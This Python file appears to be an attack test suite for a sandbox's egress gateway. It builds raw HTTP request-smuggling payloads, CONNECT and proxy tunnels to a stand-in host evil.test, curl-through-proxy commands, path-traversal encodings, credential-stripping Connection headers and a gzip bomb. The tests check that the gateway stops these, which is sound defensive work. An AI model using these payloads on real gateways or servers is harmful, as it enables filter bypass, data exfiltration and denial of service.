"""HTTP/1 towards the gateway: requests that two readers understand differently, that make a proxy of it, that go around rules of methods
and paths; and upstreams that answer what they should not."""

import json
from urllib.parse import unquote

from b02_destinations import controls
from framework import attack
from gate import Gate, command, get, raw
from hostile_servers import do

OK = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


@attack("C11", "C12", "C13", "D10", conditions=("partial",), seconds=150)
def proxies(t):
    """Absolute URLs, CONNECT, an allowed host that is itself a proxy"""
    world = t.world
    world.expect(lambda entry: entry["at"] == "dns")
    gate = Gate(t, world.sandbox())
    controls(gate, "raw")
    gate.control("an absolute URL of the same host", raw("allowed.test", "GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
    gate.control("the host that is a proxy answers plain requests", get("proxy.test"), lambda seen: seen.at("proxy"))
    for target in ("http://evil.test/{m}", "https://evil.test:443/{m}", "http://evil.test:80/{m}", "http://allowed.test:8080/{m}", "ftp://evil.test/{m}", "http:///{m}", "evil.test/{m}", "HTTP://EVIL.test/{m}"):
        for host, named in (("allowed.test", "allowed.test"), ("allowed.test", "evil.test"), ("proxy.test", "proxy.test"), ("proxy.test", "evil.test")):
            gate.attempt(f"{target} to {host}, Host {named}", raw(host, f"GET {target} HTTP/1.1\r\nHost: {named}\r\n\r\n"))
    for host, port in (("10.0.0.1", 80), ("allowed.test", 80), ("proxy.test", 80)):
        for what, send in {"CONNECT": "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n{m}", "CONNECT with the allowed Host": f"CONNECT evil.test:80 HTTP/1.1\r\nHost: {host}\r\n\r\nGET /{{m}} HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                           "CONNECT with a body": f"CONNECT evil.test:80 HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\n\r\n{{m}}", "CONNECT twice": f"CONNECT {host}:80 HTTP/1.1\r\nHost: {host}:80\r\n\r\nCONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\nGET /{{m}} HTTP/1.1\r\n\r\n"}.items():
            gate.attempt(f"{what} to {host}", raw(host, send, port=port, all=True, wait=3), lambda seen: seen.arrived or "HTTP/1.1 200" in seen.out)
    gate.attempt("CONNECT in TLS to the proxy", raw("proxy.test", "CONNECT evil.test:80 HTTP/1.1\r\nHost: proxy.test\r\n\r\nGET /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n", sni="proxy.test", all=True, wait=3))
    for url in ("http://evil.test/{m}", "https://evil.test/{m}"):
        for proxy in ("http://proxy.test:80", "https://proxy.test:443", "socks5h://proxy.test:80", "socks4a://proxy.test:80", "socks5h://allowed.test:5432"):
            gate.attempt(f"curl {url} through {proxy}", command(f"curl -k -sS -m 6 -x {proxy} {url}"), lambda seen: seen.at("evil", "proxy"))
    gate.go()
    t.control("the proxy is open to whoever reaches it", reach_through_proxy(world), "")


def reach_through_proxy(world):
    """The host asks the proxy for the attacker's server: it gets an answer, so that only the gateway stood between."""
    import http.client
    world.expect(lambda entry: "from-the-host" in str(entry))
    connection = http.client.HTTPConnection(world.net.proxy, 80, timeout=10)
    connection.request("GET", "http://evil.test/from-the-host", headers={"Host": "evil.test"})
    return b"evil GET" in connection.getresponse().read() and world.arrived("from-the-host")


LENGTHS = {
    "C15": ("Content-Length: 6\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: 6", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: \x0bchunked", "Transfer-Encoding:\tchunked\x0b", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: gzip, chunked",
            "Transfer_Encoding: chunked\r\nContent-Length: 5\r\nContent-Length: 6", "Transfer-Encoding : chunked", "X: y\nTransfer-Encoding: chunked", "Transfer-Encoding: \"chunked\""),
    "C16": ("Content-Length: 5\r\nContent-Length: 40", "Content-Length: 5\r\nContent-Length: 5", "Content-Length: +5", "Content-Length: -1", "Content-Length: 0x5", "Content-Length: 5,5", "Content-Length: 5, 6", "Content-Length: " + "9" * 20,
            "Content-Length: 5 5", "Content-Length: \xb2", "Content-Length: 5.0", "Content-Length:", "Content-Length: 18446744073709551621"),
}


@attack("C15", "C16", "C17", conditions=("partial",), seconds=150, quick=True)
def lengths(t):
    """Lengths and codings that disagree, chunks that lie"""
    world = t.world
    gate = Gate(t, world.sandbox())
    controls(gate, "raw")
    gate.control("a body with its length", raw("odd.test", "POST /{m} HTTP/1.1\r\nHost: odd.test\r\nContent-Length: 5\r\n\r\nhello"))
    gate.control("a body in chunks", raw("odd.test", "POST /{m} HTTP/1.1\r\nHost: odd.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"))
    inner = "GET /smuggled-{m} HTTP/1.1\r\nHost: cdn-bad.test\r\n\r\n"
    for id, heads in LENGTHS.items():
        for head in heads:
            gate.attempt(f"{id}: {head[:60]!r}", raw("odd.test", f"POST /{{m}} HTTP/1.1\r\nHost: odd.test\r\n{head}\r\n\r\n0\r\n\r\n{inner}", all=True, wait=3))
    gate.attempt("C15: a coding on HTTP/1.0", raw("odd.test", f"POST /{{m}} HTTP/1.0\r\nHost: odd.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}", all=True, wait=3))
    # Whole heads pass and reach the upstream; what is judged is what becomes of the bytes after them.
    def smuggled(seen):
        return [entry for entry in world.arrived("smuggled-" + seen.marker) if entry.get("path", "").startswith("/smuggled")]
    chunks = {"a size of seventeen digits": "fffffffffffffffff\r\nx", "a negative size": "-1\r\nx\r\n0\r\n\r\n" + inner, "an extension of a megabyte": "1;" + "a" * (1 << 20) + "\r\nx\r\n0\r\n\r\n", "bare line feeds": "1\nx\n0\n\n" + inner,
              "no line end after the data": "1\r\nxx\r\n0\r\n\r\n" + inner, "no end": "5\r\nhel", "a size line without end": "1" * 70000, "a hexadecimal prefix": "0x1\r\nx\r\n0\r\n\r\n" + inner, "a plus": "+1\r\nx\r\n0\r\n\r\n" + inner, "space": " 1\r\nx\r\n0\r\n\r\n" + inner,
              "a trailer with another Host": "1\r\nx\r\n0\r\nHost: cdn-bad.test\r\nX-Trailer: {m}t\r\n\r\n"}
    for what, body in chunks.items():
        gate.attempt(f"C17: {what}", raw("odd.test", f"POST /c17 HTTP/1.1\r\nHost: odd.test\r\nTransfer-Encoding: chunked\r\n\r\n{body}", all=True, wait=3),
                     lambda seen: smuggled(seen) or any(entry.get("headers", {}).get("X-Trailer") for entry in seen.arrived))
    gate.go()
    t.attempt("a request inside a body was carried out", [entry for entry in world.net.since(world.mark) if str(entry.get("path", "")).startswith("/smuggled")])


@attack("C19", "C35", "C21", "C20", conditions=("partial",), seconds=150)
def answers(t):
    """Early answers, interim answers without end, false upgrades, HTTP/2 in the clear"""
    world = t.world
    gate = Gate(t, world.sandbox())
    controls(gate, "raw")
    early = do("EARLY", "HTTP/1.1 413 Too Large\r\nContent-Length: 0\r\n\r\n", "KEEP")
    # The rest of a body that nobody reads any more, and the next request: on no account on the connection of the first.
    rest = "A" * 20 + "GET /next-{m} HTTP/1.1\r\nHost: odd.test\r\n\r\n"
    for expect in ("", "Expect: 100-continue\r\n"):
        gate.attempt(f"C19: a request after an early answer {expect.strip()}", raw("odd.test", [f"POST {early}?{{m}} HTTP/1.1\r\nHost: odd.test\r\n{expect}Content-Length: 60\r\n\r\n", 0.5, "B" * 40, 0.5, rest], all=True, wait=4),
                     lambda seen: followed(seen))
        gate.attempt(f"C19: a body that begins with a request {expect.strip()}", raw("odd.test", f"POST {early}?{{m}} HTTP/1.1\r\nHost: odd.test\r\n{expect}Content-Length: 200\r\n\r\nGET /next-{{m}} HTTP/1.1\r\nHost: cdn-bad.test\r\n\r\n" + "C" * 100, all=True, wait=4),
                     lambda seen: seen.status not in ("413", "none") and followed(seen))
    gate.control("C19: two good requests use one upstream connection", raw("odd.test", ["GET /{m}-1 HTTP/1.1\r\nHost: odd.test\r\n\r\n", "READ", "GET /{m}-2 HTTP/1.1\r\nHost: odd.test\r\n\r\n"], wait=4),
                 lambda seen: len({entry["connection"] for entry in seen.arrived}) == 1 and len(seen.arrived) == 2)
    interim = "HTTP/1.1 103 Early Hints\r\nLink: <https://evil.test/{m}>; rel=preload\r\n\r\n"
    gate.control("C35: a few interim answers, then the real one", get("odd.test", do(interim, interim, OK)), lambda seen: seen.status == "200")
    gate.attempt("C35: hints of the upstream reach the guest", get("odd.test", do(interim.replace("{m}", "x"), OK), all=True, wait=2), lambda seen: "103" in seen.out or "evil.test" in seen.out)
    gate.attempt("C35: interim answers without end", get("odd.test", do("HTTP/1.1 100 Continue\r\n\r\n" * 200, OK), wait=8), lambda seen: seen.status not in ("502",))
    gate.attempt("C35: an Alt-Svc to elsewhere", get("odd.test", do(OK.replace("\r\n\r\n", "\r\nAlt-Svc: h3=\"evil.test:443\"\r\n\r\n"))), lambda seen: "Alt-Svc" in seen.out)
    websocket = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    gate.control("C21: a real WebSocket works", raw("allowed.test", [f"GET /ws HTTP/1.1\r\nHost: allowed.test\r\n{websocket}\r\n", 0.5, "hello {m}"], all=True, wait=2),
                 lambda seen: seen.status == "101" and seen.marker in seen.out)
    switch = "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: {}\r\n{}\r\nTUNNEL"
    for what, headers, answer in (("a false 101 to a plain request", "", switch.format("websocket", "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n")), ("a 101 with a wrong accept", websocket, switch.format("websocket", "Sec-WebSocket-Accept: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n")),
                                  ("a 101 for another protocol", websocket, switch.format("h2c", "")), ("a 426 to a bad version", websocket.replace("13", "99"), "HTTP/1.1 426 Upgrade Required\r\nSec-WebSocket-Version: 13\r\nContent-Length: 6\r\n\r\nTUNNEL")):
        gate.attempt(f"C21: {what}", raw("odd.test", [f"GET {do(answer, 1.0, 'MORE', 'KEEP')} HTTP/1.1\r\nHost: odd.test\r\n{headers}\r\n", 0.5, "GET /tunnelled-{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n"], all=True, wait=3),
                     lambda seen: seen.status == "101" or "tunnelled" in str(seen.arrived))
    for what, send in {"an upgrade": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "prior knowledge": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0{m}",
                       "an upgrade to TLS": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n"}.items():
        gate.attempt(f"C20: {what}", raw("allowed.test", send, wait=3), lambda seen: seen.status == "101" or any("Upgrade" in str(entry.get("headers", "")) for entry in seen.arrived) or "raw" in str(seen.arrived))
    gate.go()


def followed(seen):
    """The next request went out on the connection that still waits for the rest of a body."""
    first = {entry["connection"] for entry in seen.arrived if "/do/" in entry.get("path", "")}
    return [entry for entry in seen.arrived if entry.get("path", "").startswith("/next") and entry["connection"] in first]


@attack("C23", "C33", conditions=("partial",), seconds=150)
def grammars(t):
    """Other versions, methods, lengths; protocols that are not HTTP on ports that nobody allowed"""
    gate = Gate(t, t.world.sandbox())
    controls(gate, "raw")
    gate.control("bytes of another protocol where a rule allows them", raw("allowed.test", "SSH-2.0-{m}\r\n", port=5432, all=True, wait=2))
    gate.control("a long target within the limit", raw("allowed.test", "GET /{m}" + "a" * 8000 + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
    for what, send in {"HTTP/0.9": "GET /{m}\r\n\r\n", "HTTP/1.2": "GET /{m} HTTP/1.2\r\nHost: allowed.test\r\n\r\n", "HTTP/2.0 in text": "GET /{m} HTTP/2.0\r\nHost: allowed.test\r\n\r\n", "a method of 8 kB": "M" * 8192 + " /{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                       "a target of 64 kB": "GET /{m}" + "a" * 65536 + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "ten thousand fields": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\n" + "X: y\r\n" * 10000 + "\r\n",
                       "101 fields": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\n" + "".join(f"X{n}: y\r\n" for n in range(101)) + "\r\n", "a head of a megabyte": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nX: " + "a" * (1 << 20) + "\r\n\r\n",
                       "bare line feeds": "GET /{m} HTTP/1.1\nHost: allowed.test\n\n", "a folded line": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nX: a\r\n b\r\n\r\n", "a space in the target": "GET /{m} x HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                       "a tab in the request line": "GET\t/{m}\tHTTP/1.1\r\nHost: allowed.test\r\n\r\n", "a control byte in a name": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nX\x01: y\r\n\r\n", "NUL in a value": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nX: a\0b\r\n\r\n",
                       "a fragment": "GET /{m}#x HTTP/1.1\r\nHost: allowed.test\r\n\r\n"}.items():
        gate.attempt(f"C23: {what}", raw("allowed.test", send, wait=3))
    for method in ("TRACE", "TRACK"):
        gate.attempt(f"C23: {method} to a host with a credential", get("odd.secret.test", sni="odd.secret.test", method=method))
        gate.attempt(f"C23: {method}", get("allowed.test", method=method))
    for port in (21, 22, 25, 587, 9418, 3128, 6379):
        gate.attempt(f"C33: port {port}", raw("allowed.test", "EHLO {m}\r\n", port=port, wait=2))
    for what, send in {"SSH": "SSH-2.0-{m}\r\n", "SMTP": "EHLO {m}\r\nSTARTTLS\r\n", "git": "0032git-upload-pack /{m}\0host=allowed.test\0", "Redis": "*1\r\n$4\r\n{m}\r\n"}.items():
        for port in (80, 443):
            gate.attempt(f"C33: {what} on port {port}", raw("allowed.test", send, port=port, wait=2))
    gate.attempt("C33: git clone git://", command("timeout 8 git clone -q git://allowed.test/{m}"))
    gate.attempt("C33: ssh on 443", command("timeout 8 ssh -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no {m}@allowed.test true"))
    gate.go()


@attack("C24", "C25", "D05", conditions=("partial",), seconds=150, quick=True)
def methods_and_paths(t):
    """Paths that mean another one, methods under another name, bodies on GET, very long queries"""
    world = t.world
    gate = Gate(t, world.sandbox())
    gate.control("a path that the rule allows", get("path.test", "/public/{m}"))
    gate.control("an escape of an ordinary letter is that letter", get("path.test", "/%70ublic/{m}"))
    gate.control("a method that the rule allows", get("read.test"))
    gate.control("HEAD as well", get("read.test", method="HEAD"))
    gate.control("a POST arrives where no rule looks at methods", raw("allowed.test", "POST /{m} HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 2\r\n\r\nhi"))
    for path in ("/", "/admin", "/public/../admin", "/public/%2e%2e/admin", "/public/..%2fadmin", "/public/.%2e/admin", "/public//../admin", "/public/./../admin", "//evil.test/", "/public;/../admin", "/PUBLIC/x", "/public%00/../admin", "/public/..;/admin",
                 "/public\\..\\admin", "/public/%5c..%5cadmin", "/public/..\\admin", "/publicity", "/public%2f..%2fadmin", "/public/%252e%252e/admin", "/%2e%2e/public/../admin", "/public/\u00e9/../../admin", "/publi%63/../admin", "/admin?/public/", "/admin;/public/", "/public/....//admin", "/x/../public/../admin",
                 "/public/%c0%ae%c0%ae/admin", "/public/\t/../admin"):
        joined = path + ("&" if "?" in path else "?") + "{m}"
        gate.attempt(f"C24: {path!r}", raw("path.test", f"GET {joined} HTTP/1.1\r\nHost: path.test\r\n\r\n"), lambda seen: [entry for entry in seen.arrived if leads_out(entry["path"])])
        gate.attempt(f"C24: {path!r} in TLS", raw("path.test", f"GET {joined} HTTP/1.1\r\nHost: path.test\r\n\r\n", sni="path.test"), lambda seen: [entry for entry in seen.arrived if leads_out(entry["path"])])
    for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "get", "Get", "PROPFIND", "POST\x0b", "GET,POST", "TRACE"):
        gate.attempt(f"C25: method {method!r}", get("read.test", method=method))
    for header in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "x-http-method-override"):
        gate.attempt(f"C25: {header}", get("read.test", headers=f"{header}: POST\r\n"), lambda seen: "override" in json.dumps(seen.arrived).lower() or "x-http-method" in json.dumps(seen.arrived).lower())
    for method in ("GET", "HEAD"):
        gate.attempt(f"C25: {method} with a body", raw("read.test", f"{method} /{{m}} HTTP/1.1\r\nHost: read.test\r\nContent-Length: 6\r\n\r\nsecret"))
        gate.attempt(f"C25: {method} with a body in chunks", raw("read.test", f"{method} /{{m}} HTTP/1.1\r\nHost: read.test\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nsecret\r\n0\r\n\r\n"))
    gate.attempt("D05: a query beyond the limit of targets", get("read.test", "/{m}?" + "q" * 16400))
    marker = gate.control("D05: a query of 8 kB passes, as documented: a policy of methods keeps nothing in", get("read.test", "/{m}?" + "q" * 8000))
    gate.go()
    with world.attacker.events(f"{world.sandbox().path}/egress/log") as stream:
        t.attempt("D05: what was asked for is not in the log", not any(event.data.get("path") == "/" + marker for event in stream))


def leads_out(path):
    """Whether some server would read this path as one outside of /public."""
    plain = unquote(unquote(path.split("?")[0])).replace("\\", "/").replace(";", "/")
    parts = []
    for part in plain.split("/"):
        if part == "..":
            parts[-1:] = []
        elif part not in ("", "."):
            parts.append(part)
    return parts[:1] != ["public"] or ".." in plain.split("/")


@attack("C28", "C29", "C32", conditions=("partial",), seconds=150)
def fields(t):
    """Fields for one hop, fields that forge where a request came from, bodies that grow"""
    world, secret = t.world, t.world.secrets["a credential"]
    gate = Gate(t, world.sandbox())
    gate.control("a credential is put in", get("odd.secret.test", sni="odd.secret.test"), lambda seen: secret in str(seen.arrived))
    gate.control("an ordinary field passes", get("odd.test", headers="X-Ordinary: {m}\r\n"), lambda seen: seen.arrived[0]["headers"].get("X-Ordinary") == seen.marker)
    for value in ("Authorization", "close, Authorization", "authorization, Host", "keep-alive, AUTHORIZATION", "Authorization\r\nConnection: Authorization", "Accept-Encoding, Authorization"):
        gate.attempt(f"C28: Connection: {value!r} takes the credential out", get("odd.secret.test", sni="odd.secret.test", headers=f"Connection: {value}\r\n"), lambda seen: seen.arrived and secret not in str(seen.arrived))
    gate.attempt("C28: Connection: Host takes the host out", get("odd.test", headers="Connection: Host\r\n"), lambda seen: seen.arrived and seen.arrived[0]["host"] != "odd.test")
    gate.attempt("C28: Connection: Content-Length", raw("odd.test", "POST /{m} HTTP/1.1\r\nHost: odd.test\r\nConnection: Content-Length\r\nContent-Length: 40\r\n\r\nGET /inner-{m} HTTP/1.1\r\nHost: x\r\n\r\n    ", all=True, wait=3),
                 lambda seen: any(entry.get("path", "").startswith("/inner") for entry in seen.arrived))
    for name in ("Proxy-Connection", "Keep-Alive", "Proxy-Authorization", "Proxy-Authenticate", "TE", "Trailer", "HTTP2-Settings", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "X-Real-IP", "X-Original-URL", "X-Rewrite-URL", "Via", "X-Host", "X-Original-Host"):
        gate.attempt(f"C29: {name}", get("odd.test", headers=f"{name}: evil.test\r\n"), lambda seen, name=name: any(name.lower() in map(str.lower, entry["headers"]) for entry in seen.arrived))
    labelled = "HTTP/1.1 200 OK\r\nContent-Encoding: {}\r\nTransfer-Encoding: chunked\r\n\r\n"
    gate.control("C32: an answer that is compressed as it says is read and the secret taken out", get("odd.secret.test", do(labelled.format("gzip") + "{gzip:before {auth} after}"), sni="odd.secret.test"),
                 lambda seen: "before" in seen.out and "****" in seen.out)
    plain = "5\r\nhello\r\n0\r\n\r\n"
    for coding in ("br", "zstd", "compress", "gzip, gzip", "gzip, br", "identity, gzip", "gzip;q=1", "x"):
        gate.attempt(f"C32: the coding {coding!r}", get("odd.secret.test", do(labelled.format(coding) + plain), sni="odd.secret.test"), lambda seen: seen.status == "200")
    gate.attempt("C32: said to be compressed, and is not", get("odd.secret.test", do(labelled.format("gzip") + plain), sni="odd.secret.test"), lambda seen: "hello" in seen.out)
    gate.go()
    before = worker_memory(world)
    gate = Gate(t, world.sandbox())
    size = 10000 if world.long else 64
    gate.attempt(f"C32: {size} MB of zeros", command(f"curl -sS -m 20 -o /dev/null https://odd.secret.test{do(labelled.format('gzip'), ['zeros', size])}", 30), lambda seen: False)
    gate.go()
    grown = worker_memory(world) - before
    t.figure("gateway grew by, MiB, for a bomb", grown)
    t.attempt("C32: the gateway holds what a bomb becomes", grown > min(size / 2, 120), f"{grown} MiB")


def worker_memory(world):
    """Of all the gateway's processes, MiB."""
    import leaks
    from pathlib import Path
    egress = world.server.role_pid("egress")
    total = 0
    for pid in (egress, *leaks.children(egress)):
        status = Path(f"/proc/{pid}/status").read_text()
        total += int(status.split("VmRSS:")[1].split()[0]) if "VmRSS:" in status else 0
    return total // 1024
